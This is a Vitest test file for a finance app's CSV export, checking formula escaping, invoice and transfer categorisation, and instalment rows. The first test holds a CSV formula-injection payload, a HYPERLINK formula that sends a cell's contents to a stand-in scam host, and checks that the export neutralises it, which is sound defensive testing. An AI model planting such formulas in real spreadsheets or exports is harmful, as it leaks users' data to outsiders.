import { afterAll, beforeAll, expect, it } from 'vitest';
import { categoryId, client, data } from '../../test/client.ts';
import { bearer, createAccount, startTestServer, type TestServer } from '../../test/helper.ts';

let server: TestServer;
beforeAll(async () => {
  server = await startTestServer();
});
afterAll(() => server.close());

it('exports user-written names as text, never as formulas, and amounts as numbers', async () => {
  const account = await createAccount(server);
  const api = client(server, account.token);
  const wallet = await data<{ _id: string }>(
    api('POST', '/payments', { name: '@SUM(1+1)', type: 'debit', accountType: 'Conta corrente', value: 0 }),
    201,
  );
  await data(
    api('POST', '/transactions', {
      name: '=HYPERLINK("https://golpe.example/?d="&A1,"Clique")',
      value: 10,
      date: '2026-11-10',
      paid: true,
      transactionType: 'expenses',
      category: await categoryId(api, 'Aluguel'),
      payment: wallet._id,
    }),
    201,
  );

  const csv = await server.app.inject({
    method: 'POST',
    url: '/api/users/export_user_story',
    headers: bearer(account.token),
  });

  expect(csv.statusCode).toBe(200);
  const line = csv.body.split('\r\n').find((row) => row.startsWith('10/11/2026;'));
  expect(line).toBe(
    `10/11/2026;"'=HYPERLINK(""https://golpe.example/?d=""&A1,""Clique"")";Aluguel;Despesa;-10,00;"'@SUM(1+1)";Sim;;`,
  );
});

it("names invoice payments, their carry and moves between one's own wallets apart, so 'Despesa' adds up to the screens (audit O6)", async () => {
  const account = await createAccount(server);
  const api = client(server, account.token);
  const wallet = (body: object) => data<{ _id: string }>(api('POST', '/payments', body), 201);
  const checking = (await wallet({ name: 'Itaú', type: 'debit', accountType: 'Conta corrente', value: 3000 }))
    ._id;
  const savings = (await wallet({ name: 'Poupança', type: 'debit', accountType: 'Poupança', value: 0 }))._id;
  const card = (
    await wallet({ name: 'Nubank', type: 'credit', flag: 'Visa', invoiceCloseOn: 5, paid: 12, limit: 5000 })
  )._id;
  const market = await categoryId(api, 'Supermercado');
  await data(
    api('POST', '/transactions', {
      name: 'Mercado',
      value: 100,
      date: '2026-10-10',
      transactionType: 'expenses',
      category: market,
      payment: card,
    }),
    201,
  );
  const invoices = await data<{ items: Array<{ _id: string; creditCardId: string; closeOnDay: string }> }>(
    api('GET', '/invoices?month=11&year=2026'),
  );
  const invoice = invoices.items.find((item) => item.creditCardId === card);
  await data(
    api('POST', '/invoices', {
      name: 'Pagamento de fatura',
      value: 60,
      date: invoice?.closeOnDay,
      paid: true,
      transactionType: 'expenses',
      payment: checking,
      paymentInvoiceReferenceId: invoice?._id,
    }),
    201,
  );
  await data(
    api('POST', '/transactions', {
      name: 'Transferência',
      value: 200,
      date: '2026-11-06',
      paid: true,
      transactionType: 'revenues',
      bankingOperationType: 'transfer',
      bankingOperationPayment: checking,
      payment: savings,
    }),
    201,
  );

  const csv = await server.app.inject({
    method: 'POST',
    url: '/api/users/export_user_story',
    headers: bearer(account.token),
  });
  const rows = csv.body
    .split('\r\n')
    .slice(1)
    .filter(Boolean)
    .map((line) => line.split(';'));
  const typed = (type: string) => rows.filter((row) => row[3] === type).map((row) => [row[1], row[4]]);
  // The purchase is the only expense: the screens count it once, on the card.
  expect(typed('Despesa')).toEqual([['Mercado', '-100,00']]);
  expect(typed('Receita')).toEqual([]);
  expect(typed('Pagamento de fatura')).toEqual([['Pagamento de fatura', '-60,00']]);
  expect(typed('Saldo de fatura anterior')).toEqual([['Residual da fatura anterior', '-40,00']]);
  expect(typed('Transferência')).toEqual([
    ['Transferência', '-200,00'],
    ['Transferência', '200,00'],
  ]);
});

it("holds what the person typed: each row's name and description, which instalment it is, and each wallet's opening balance (audit AC2)", async () => {
  const account = await createAccount(server);
  const api = client(server, account.token);
  const checking = (
    await data<{ _id: string }>(
      api('POST', '/payments', {
        name: 'Conta Itaú',
        type: 'debit',
        accountType: 'Conta corrente',
        value: 1000.55,
      }),
      201,
    )
  )._id;
  const expense = (body: object) =>
    data(
      api('POST', '/transactions', {
        transactionType: 'expenses',
        category: categoryIdOf,
        payment: checking,
        paid: true,
        ...body,
      }),
      201,
    );
  const categoryIdOf = await categoryId(api, 'Supermercado');
  await expense({
    name: 'Farmácia',
    value: 45.3,
    date: '2026-11-27',
    description: 'Remédio da mãe; receita 123',
  });
  await expense({ name: 'Sofá', value: 300.01, date: '2026-11-10', lastInstallment: 3, paid: false });

  const csv = await server.app.inject({
    method: 'POST',
    url: '/api/users/export_user_story',
    headers: bearer(account.token),
  });
  const [header, ...lines] = csv.body
    .replace(/^\uFEFF/, '')
    .split('\r\n')
    .filter(Boolean);
  expect(header).toBe('Data;Nome;Categoria;Tipo;Valor;Carteira;Pago;Descrição;Parcela');
  const rows = lines.map((line) => line.split(';'));
  const opening = rows.filter((row) => row[3] === 'Saldo inicial');
  expect(opening.map((row) => row.slice(1))).toEqual([
    ['Saldo inicial', '', 'Saldo inicial', '1000,55', 'Conta Itaú', 'Sim', '', ''],
  ]);
  expect(lines.find((line) => line.includes('Farmácia'))).toBe(
    '27/11/2026;Farmácia;Supermercado;Despesa;-45,30;Conta Itaú;Sim;"Remédio da mãe; receita 123";',
  );
  expect(rows.filter((row) => row[1] === 'Sofá').map((row) => [row[4], row[8]])).toEqual([
    ['-100,01', '1/3'],
    ['-100,00', '2/3'],
    ['-100,00', '3/3'],
  ]);
  // The wallet's balance is its opening balance plus its paid rows, all in the file.
  const paidCents = rows
    .filter((row) => row[5] === 'Conta Itaú' && row[6] === 'Sim')
    .reduce((sum, row) => sum + Math.round(Number(row[4]?.replace(',', '.')) * 100), 0);
  expect(paidCents).toBe(100_055 - 4_530);
});
